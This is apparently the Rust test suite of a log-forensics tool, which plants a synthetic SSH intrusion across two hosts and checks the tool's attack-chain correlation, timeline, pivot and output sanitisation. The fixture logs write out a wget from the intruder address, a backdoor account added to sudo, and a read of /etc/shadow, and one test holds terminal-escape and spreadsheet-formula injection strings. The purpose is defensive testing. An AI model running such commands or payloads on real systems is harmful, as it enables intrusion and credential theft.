//! The correlation layer on a planted two-host, three-source intrusion: the attack chain comes
//! out in order with its evidence, the address is seen across sources, an administrator's
//! ordinary session is no chain; and the timeline's filters and formats.

use std::path::PathBuf;

use crate::common::*;
use logsleuth::detect::finding::{Finding, FindingsDoc};

fn t(min: i64) -> String {
    let s = 10 * 3600 + min * 60;
    format!("Dec  1 {:02}:{:02}:{:02}", s / 3600, s / 60 % 60, s % 60)
}

/// Intruder 203.0.113.66: port scan (firewall, h1) → web probe (access, h1) → SSH brute force →
/// login as svc on h1 → sudo bash → useradd + sudo group → wget → login to h2 from h1 → sudo on h2.
/// Alice: an ordinary admin session with `sudo apt upgrade`.
fn intrusion() -> (tempfile::TempDir, PathBuf) {
    let x = "203.0.113.66";
    let mut ufw = String::new();
    for p in 0..25 {
        ufw += &format!(
            "{} h1 kernel: [UFW BLOCK] IN=eth0 OUT= SRC={x} DST=10.1.0.1 PROTO=TCP SPT=4000 DPT={}\n",
            t(0),
            20 + p
        );
    }
    let mut access = String::new();
    for i in 0..3 {
        access +=
            &format!("{x} - - [01/Dec/2026:10:{:02}:00 +0000] \"GET /.env HTTP/1.1\" 404 9 \"-\" \"curl/8\"\n", 10 + i);
    }
    let mut auth1 = String::new();
    for d in 1..=3 {
        auth1 += &format!(
            "Nov {:2} 09:00:00 h1 sshd[9{d}]: Accepted publickey for svc from 10.1.0.9 port 5000 ssh2\n",
            26 + d
        );
    }
    for i in 0..6 {
        auth1 += &format!("{} h1 sshd[{}]: Failed password for svc from {x} port 5{i}00 ssh2\n", t(20 + i), 100 + i);
    }
    auth1 += &format!("{} h1 sshd[200]: Accepted password for svc from {x} port 5999 ssh2\n", t(27));
    auth1 += &format!("{} h1 sudo:      svc : TTY=pts/0 ; PWD=/home/svc ; USER=root ; COMMAND=/bin/bash\n", t(29));
    auth1 += &format!("{} h1 useradd[201]: new user: name=ghost, UID=1100, GID=1100, home=/home/ghost, shell=/bin/bash, from=/dev/pts/0\n", t(31));
    auth1 += &format!("{} h1 usermod[202]: add 'ghost' to group 'sudo'\n", t(32));
    auth1 += &format!(
        "{} h1 sudo:      svc : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/wget http://{x}/a.sh\n",
        t(33)
    );
    auth1 += &format!("{} h1 sshd[300]: Accepted publickey for alice from 10.1.0.9 port 6000 ssh2\n", t(60));
    auth1 += &format!(
        "{} h1 sudo:    alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt upgrade\n",
        t(61)
    );
    let mut auth2 = String::new();
    auth2 += &format!("{} h2 sshd[400]: Accepted publickey for svc from 10.1.0.1 port 7000 ssh2\n", t(40));
    auth2 += &format!(
        "{} h2 sudo:      svc : TTY=pts/0 ; PWD=/home/svc ; USER=root ; COMMAND=/bin/cat /etc/shadow\n",
        t(41)
    );
    let dir = tempfile::tempdir().unwrap();
    let ev = dir.path().join("ev");
    write(&ev, "h1/var/log/ufw.log", ufw.as_bytes());
    write(&ev, "h1/var/log/apache2/access.log", access.as_bytes());
    write(&ev, "h1/var/log/auth.log", auth1.as_bytes());
    write(&ev, "h2/var/log/auth.log", auth2.as_bytes());
    let case = dir.path().join("case");
    ok(&["ingest", ev.to_str().unwrap(), "--case", case.to_str().unwrap(), "--year", "2026", "-q"]);
    ok(&["detect", "--case", case.to_str().unwrap(), "-q"]);
    (dir, case)
}

fn findings(case: &std::path::Path) -> Vec<Finding> {
    FindingsDoc::load(&case.join("findings.json")).unwrap().findings
}

#[test]
fn attack_chain_in_order_across_two_hosts_and_three_sources() {
    let (_d, case) = intrusion();
    let f = findings(&case);
    let chains: Vec<&Finding> = f.iter().filter(|x| x.rule == "attack_chain").collect();
    assert_eq!(chains.len(), 1, "one chain, and alice's session is not one");
    let c = chains[0];
    assert_eq!(c.severity.as_str(), "critical");
    assert_eq!(
        (c.source_ip.as_deref(), c.user_name.as_deref(), c.host_name.as_deref()),
        (Some("203.0.113.66"), Some("svc"), Some("h1"))
    );
    let stages: Vec<&str> =
        c.details["steps"].as_array().unwrap().iter().map(|s| s["step"].as_str().unwrap()).collect();
    assert_eq!(
        stages,
        [
            "reconnaissance",
            "exploitation attempts",
            "brute force",
            "initial access",
            "privilege escalation",
            "persistence",
            "download",
            "lateral movement",
            "privilege escalation"
        ],
        "the /.env probes are a web_attack; useradd + usermod of one account are one account_change"
    );
    let minutes: Vec<i64> = c.details["steps"]
        .as_array()
        .unwrap()
        .iter()
        .skip(1)
        .map(|s| s["minutes_since_previous"].as_i64().unwrap())
        .collect();
    assert_eq!(minutes, [10, 10, 7, 2, 2, 2, 7, 1]);
    let ev: Vec<(&str, i64)> = c.evidence.iter().map(|e| (e.file.as_str(), e.line)).collect();
    assert_eq!(ev[0], ("h1/var/log/ufw.log", 1));
    assert!(ev.contains(&("h1/var/log/auth.log", 10)), "the login that worked: {ev:?}");
    assert!(ev.contains(&("h2/var/log/auth.log", 1)), "the lateral login: {ev:?}");
    assert!(ev.contains(&("h2/var/log/auth.log", 2)));
    let cross: Vec<&Finding> = f.iter().filter(|x| x.rule == "cross_source").collect();
    assert_eq!(cross.len(), 1);
    assert_eq!(cross[0].details["sources"], "apache_access, auth, firewall");
    // Seen in three sources is volume, not impact: medium under the severity policy.
    assert_eq!(cross[0].severity.as_str(), "medium");
    assert_eq!(cross[0].details["rule_severity"], "high");
    assert!(cross[0].details["sightings"]["firewall@h1"]["first"].as_str().unwrap().starts_with("2026-12-01T10:00"));
    assert!(!f.iter().any(|x| x.user_name.as_deref() == Some("alice") && x.severity.as_str() == "critical"));
}

#[test]
fn timeline_filters_and_formats() {
    let (_d, case) = intrusion();
    let c = case.to_str().unwrap();
    // Table: time-ordered across hosts, provenance on every line.
    let out = ok(&["timeline", "--case", c, "--user", "svc", "--from", "2026-12-01T10:27:00Z"]);
    let lines: Vec<&str> = out.lines().skip(1).collect();
    assert!(
        lines[0].contains("auth.success svc from 203.0.113.66") && lines[0].contains("[h1/var/log/auth.log:10]"),
        "{out}"
    );
    assert!(lines.iter().any(|l| l.contains(" h2 ")), "both hosts: {out}");
    // CIDR and action filters; relative time.
    let out = ok(&["timeline", "--case", c, "--ip", "203.0.113.0/24", "--action", "auth.", "--format", "csv"]);
    assert_eq!(out.lines().count(), 1 + 6 + 1, "header, 6 failures, 1 success:\n{out}");
    let out = ok(&["timeline", "--case", c, "--from", "-10m", "--format", "jsonl"]);
    assert_eq!(out.lines().count(), 2, "the last ten minutes: alice's login and sudo:\n{out}");
    // --around and --rule.
    let out = ok(&["timeline", "--case", c, "--around", "2026-12-01T10:40:00Z", "--window", "1m", "--format", "jsonl"]);
    assert!(out.lines().all(|l| l.contains("\"host_name\":\"h2\"")) && out.lines().count() == 2, "{out}");
    let out = ok(&["timeline", "--case", c, "--rule", "success_after_failures", "--format", "jsonl"]);
    assert_eq!(out.lines().count(), 7);
    // Timesketch columns.
    let out = ok(&["timeline", "--case", c, "--host", "h2", "--format", "timesketch"]);
    assert!(out.starts_with("message,datetime,timestamp_desc,timestamp,"));
    assert!(out.contains(",2026-12-01T10:40:00Z,Event Recorded,"));
    // Parquet needs a file and reads back.
    let pq = case.join("tl.parquet");
    ok(&["timeline", "--case", c, "--format", "parquet", "-o", pq.to_str().unwrap()]);
    use polars::prelude::SerReader;
    let df = polars::prelude::ParquetReader::new(std::fs::File::open(&pq).unwrap()).finish().unwrap();
    assert_eq!(df.height() as i64, count(&case, "SELECT COUNT(*) FROM events"));
    assert_eq!(run(&["timeline", "--case", c, "--format", "parquet"]).status.code(), Some(2));
    assert_eq!(run(&["timeline", "--case", c, "--from", "last tuesday"]).status.code(), Some(2));
    // No silent empty answers: unknown rules, reversed ranges and a lone --window are usage
    // errors; host names match without regard to case; no match exits 1 and says what the
    // case holds.
    let bad = run(&["timeline", "--case", c, "--rule", "success_after"]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("did you mean success_after_failures"));
    let bad = run(&["timeline", "--case", c, "--rule", "nosuch_rule"]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("the rules are:"));
    let bad = run(&["timeline", "--case", c, "--from", "2026-12-02", "--to", "2026-12-01"]);
    assert_eq!(bad.status.code(), Some(2), "{}", String::from_utf8_lossy(&bad.stderr));
    assert_eq!(run(&["timeline", "--case", c, "--from", "-1m", "--to", "-10m"]).status.code(), Some(2));
    assert_eq!(run(&["timeline", "--case", c, "--window", "5m"]).status.code(), Some(2));
    let upper = ok(&["timeline", "--case", c, "--host", "H2", "--format", "jsonl"]);
    let lower = ok(&["timeline", "--case", c, "--host", "h2", "--format", "jsonl"]);
    assert!(!upper.is_empty() && upper == lower);
    let none = run(&["timeline", "--case", c, "--user", "nobody-here"]);
    assert_eq!(none.status.code(), Some(1));
    let err = String::from_utf8_lossy(&none.stderr);
    assert!(
        err.contains("no event matches") && err.contains("the case holds events from") && err.contains("h2"),
        "{err}"
    );
}

#[test]
fn hostile_text_is_neutralised_in_terminal_and_spreadsheet_output() {
    let dir = tempfile::tempdir().unwrap();
    let ev = dir.path().join("ev");
    let log = "Dec  1 10:00:00 h1 sshd[1]: Invalid user \u{1b}[2J\u{1b}]0;pwned\u{7} from 192.0.2.1 port 1\n\
               Dec  1 10:00:01 h1 sshd[2]: Invalid user =HYPERLINK(\"http://x\",\"y\") from 192.0.2.1 port 2\n";
    write(&ev, "h1/var/log/auth.log", log.as_bytes());
    let case = dir.path().join("case");
    ok(&["ingest", ev.to_str().unwrap(), "--case", case.to_str().unwrap(), "--year", "2026", "-q"]);
    let table = ok(&["timeline", "--case", case.to_str().unwrap()]);
    assert!(!table.contains('\u{1b}') && !table.contains('\u{7}'), "no escape sequences reach the terminal");
    assert!(table.contains("\\x1b[2J"));
    let csv = ok(&["timeline", "--case", case.to_str().unwrap(), "--format", "csv"]);
    assert!(!csv.contains(",=HYPERLINK"), "{csv}");
    assert!(csv.contains("'=HYPERLINK"));
    let q = ok(&["query", "--case", case.to_str().unwrap(), "SELECT user_name FROM events"]);
    assert!(!q.contains('\u{1b}'));
}

#[test]
fn pivot_and_correlations() {
    let (_d, case) = intrusion();
    let c = case.to_str().unwrap();
    let out = ok(&["pivot", "--case", c, "--ip", "203.0.113.66", "--json"]);
    let p: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(p["events"], 25 + 3 + 6 + 1);
    assert_eq!(p["users"][0]["value"], "svc");
    assert_eq!(p["paths"][0]["value"], "/.env");
    assert_eq!(p["ports"].as_array().unwrap().len(), 25);
    let rules: Vec<&str> = p["findings"].as_array().unwrap().iter().map(|f| f["rule"].as_str().unwrap()).collect();
    for r in ["attack_chain", "success_after_failures", "ssh_bruteforce", "port_scan", "cross_source"] {
        assert!(rules.contains(&r), "{r} missing from {rules:?}");
    }
    let sources: Vec<&str> = p["activity"].as_array().unwrap().iter().map(|a| a["source"].as_str().unwrap()).collect();
    assert_eq!(sources[0], "firewall", "activity in time order");
    let text = ok(&["pivot", "--case", c, "--user", "svc"]);
    assert!(text.starts_with("user svc:") && text.contains("h2"), "{text}");
    assert_eq!(run(&["pivot", "--case", c]).status.code(), Some(2), "one entity is required");
    // A network takes in every address of the case inside it; host names ignore case; no match
    // exits 1 and says what the case holds; a malformed address is a usage error.
    let net = ok(&["pivot", "--case", c, "--ip", "203.0.113.0/24", "--json"]);
    let n: serde_json::Value = serde_json::from_str(&net).unwrap();
    let one_address = p["events"].as_u64().unwrap();
    assert!(n["events"].as_u64().unwrap() >= one_address, "the network holds 203.0.113.66: {net}");
    let rules: Vec<&str> = n["findings"].as_array().unwrap().iter().map(|f| f["rule"].as_str().unwrap()).collect();
    assert!(rules.contains(&"ssh_bruteforce"), "{rules:?}");
    let upper: serde_json::Value =
        serde_json::from_str(&ok(&["pivot", "--case", c, "--host", "H2", "--json"])).unwrap();
    let lower: serde_json::Value =
        serde_json::from_str(&ok(&["pivot", "--case", c, "--host", "h2", "--json"])).unwrap();
    assert!(upper["events"].as_u64().unwrap() > 0);
    assert_eq!(upper["events"], lower["events"]);
    let none = run(&["pivot", "--case", c, "--ip", "192.0.2.250"]);
    assert_eq!(none.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&none.stderr).contains("the case holds events from"));
    assert_eq!(run(&["pivot", "--case", c, "--ip", "not-an-address"]).status.code(), Some(2));
    // detect wrote the correlation table; it is queryable.
    let n = count(
        &case,
        "SELECT COUNT(*) FROM correlations WHERE pearson >= -1 AND pearson <= 1 AND spearman >= -1 AND spearman <= 1",
    );
    assert!(n > 0);
    assert!(count(&case, "SELECT COUNT(*) FROM findings WHERE rule = 'attack_chain'") == 1);
}

#[test]
fn output_files_get_the_format_their_name_says_and_query_shows_whole_values() {
    let (dir, case) = intrusion();
    let c = case.to_str().unwrap();
    // -o with a known extension and no --format: that format.
    let pq = dir.path().join("tl.parquet");
    ok(&["timeline", "--case", c, "-o", pq.to_str().unwrap()]);
    assert!(std::fs::read(&pq).unwrap().starts_with(b"PAR1"), "a Parquet file, not the text table");
    let js = dir.path().join("tl.jsonl");
    ok(&["timeline", "--case", c, "-o", js.to_str().unwrap()]);
    let first = std::fs::read_to_string(&js).unwrap();
    assert!(serde_json::from_str::<serde_json::Value>(first.lines().next().unwrap()).is_ok());
    // A --format that contradicts the extension is refused, naming both.
    let out = run(&["timeline", "--case", c, "-o", pq.to_str().unwrap(), "--format", "csv"]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("tl.parquet") && err.contains("parquet file") && err.contains("--format is csv"), "{err}");
    // --format timesketch writes CSV: a .csv name is fine.
    let ts = dir.path().join("sketch.csv");
    ok(&["timeline", "--case", c, "--format", "timesketch", "-o", ts.to_str().unwrap()]);
    // An unwritable output names its path.
    let out = run(&["timeline", "--case", c, "-o", "/nonexistent/dir/x.csv"]);
    assert_eq!(out.status.code(), Some(5));
    assert!(String::from_utf8_lossy(&out.stderr).contains("/nonexistent/dir/x.csv"));
    // query: long values whole with --wrap or --max-width, and one field per line.
    let q = "SELECT process_command_line FROM events WHERE process_command_line LIKE '%wget%' LIMIT 1";
    let cut = ok(&["query", "--case", c, q]);
    let wide = ok(&["query", "--case", c, "--max-width", "400", q]);
    let cmd = wide.lines().nth(2).unwrap().trim().to_string();
    assert!(cmd.contains("wget") && cmd.len() > 10, "{wide}");
    assert!(cut.lines().nth(2).unwrap().chars().count() <= 60);
    let wrapped = ok(&["query", "--case", c, "--wrap", "--max-width", "12", q]);
    assert_eq!(
        wrapped.lines().skip(2).take_while(|l| !l.starts_with('(')).collect::<String>().replace(' ', ""),
        cmd.replace(' ', "")
    );
    let lines = ok(&["query", "--case", c, "--format", "line", "--max-width", "400", q]);
    assert!(lines.starts_with(&format!("process_command_line = {cmd}")), "{lines}");
}

#[test]
fn sql_is_read_only_says_its_dialect_and_reads_stdin() {
    let (_dir, case) = intrusion();
    let c = case.to_str().unwrap();
    // Only reads: DROP and friends are refused, and the data is still there.
    let out = run(&["query", "--case", c, "DROP TABLE events"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("read-only SELECT"));
    let out = run(&["query", "--case", c, ""]);
    assert_eq!(out.status.code(), Some(2));
    assert!(ok(&["query", "--case", c, "SELECT COUNT(*) FROM events"]).contains("COUNT(*)"));
    // An unknown function names the dialect.
    let out = run(&["query", "--case", c, "SELECT date_trunc('hour', timestamp) FROM events"]);
    assert_eq!(out.status.code(), Some(5));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("the SQL failed") && err.contains("polars' SQL dialect"), "{err}");
    assert!(!err.contains("query query"), "{err}");
    // `-` reads the statement from stdin.
    let mut child = std::process::Command::new(bin())
        .args(["query", "--case", c, "--format", "json", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(
        child.stdin.as_mut().unwrap(),
        b"SELECT host_name, COUNT(*) AS n FROM events GROUP BY 1 ORDER BY 1",
    )
    .unwrap();
    drop(child.stdin.take());
    let out = child.wait_with_output().unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("--format json is one JSON array");
    assert!(v.as_array().is_some_and(|a| !a.is_empty() && a[0]["n"].as_i64().is_some()), "{v}");
    let lines = ok(&["query", "--case", c, "--format", "jsonl", "SELECT host_name FROM events LIMIT 2"]);
    assert_eq!(lines.lines().count(), 2);
    // Derived tables before detect say what to do.
    let fresh = case.parent().unwrap().join("fresh");
    ok(&["ingest", case.parent().unwrap().join("ev").to_str().unwrap(), "--case", fresh.to_str().unwrap(), "-q"]);
    let out = run(&["query", "--case", fresh.to_str().unwrap(), "SELECT * FROM findings"]);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("run `logsleuth detect --case"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Times as investigators type them.
    let a = ok(&["timeline", "--case", c, "--from", "2026-12-01 10:00", "--to", "2026-12-01T10:30", "--format", "csv"]);
    let b = ok(&[
        "timeline",
        "--case",
        c,
        "--from",
        "2026-12-01T10:00:00Z",
        "--to",
        "2026-12-01T10:30:00Z",
        "--format",
        "csv",
    ]);
    assert_eq!(a, b);
}

#[test]
fn summaries_name_ids_and_next_steps_and_stale_findings_are_noticed() {
    let (dir, case) = intrusion();
    let c = case.to_str().unwrap();
    let out = ok(&["detect", "--case", c]);
    assert!(out.contains("(inc-"), "incident ids in the summary:\n{out}");
    assert!(out.contains("next: logsleuth pivot --case") && out.contains("logsleuth report --case"), "{out}");
    let out = ok(&["pivot", "--case", c, "--ip", "203.0.113.66"]);
    assert!(out.starts_with("address 203.0.113.66:"), "{out}");
    // Help lines wrap with the width of the longest flag: compare with whitespace folded.
    let help = ok(&["pivot", "--help"]).split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(help.contains("--ip <IP|CIDR>") && help.contains("every address of the case inside it"), "{help}");
    // A later ingest makes the findings stale: pivot warns, report detects again.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    write(
        &dir.path().join("ev"),
        "h3/var/log/auth.log",
        b"Dec  1 11:00:00 h3 sshd[1]: Failed password for root from 192.0.2.77 port 1 ssh2\n",
    );
    ok(&["ingest", dir.path().join("ev").to_str().unwrap(), "--case", c, "--year", "2026", "-q"]);
    let out = run(&["pivot", "--case", c, "--ip", "203.0.113.66"]);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("older than the newest ingest"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let before = FindingsDoc::load(&case.join("findings.json")).unwrap().generated_at;
    ok(&["report", "--case", c]);
    let after = FindingsDoc::load(&case.join("findings.json")).unwrap().generated_at;
    assert!(after > before, "report detected again over stale findings");
}

/// The stored hourly counts give `volume_anomaly` the very per-host series a scan of the events
/// gives at a one-hour interval: auth failures of the auth module, and HTTP requests (the
/// sample has both, on several hosts, failures in other modules too).
#[test]
fn hourly_counts_are_the_per_host_series_of_the_events() {
    use logsleuth::query::{frame, hourly, CaseData};
    use logsleuth::schema::action;
    use polars::prelude::*;
    let (_dir, case) = sample_case("ingest");
    let data = CaseData::open(&case).unwrap();
    let table = hourly::table(&data).unwrap();
    let scanned = |filter: Expr| {
        frame::bucket_counts(data.events().unwrap().filter(filter), col("host_name"), hourly::HOUR_US).unwrap()
    };
    let failures = hourly::per_host(&table, |m, kind, _| m == "auth" && kind == hourly::KIND_AUTH_FAILURE).unwrap();
    let want = scanned(col("event_module").eq(lit("auth")).and(col("event_action").eq(lit(action::AUTH_FAILURE))));
    assert!(want.len() >= 2 && want.values().map(|s| s.len()).sum::<usize>() > 2, "{want:?}");
    assert_eq!(failures, want);
    let requests = hourly::per_host(&table, |_, _, http| http).unwrap();
    let want = scanned(col("event_action").eq(lit(action::HTTP_REQUEST)));
    assert!(!want.is_empty());
    assert_eq!(requests, want);
    // Read back from the case, the same table.
    assert!(hourly::table(&CaseData::open(&case).unwrap()).unwrap().equals_missing(&table));
}
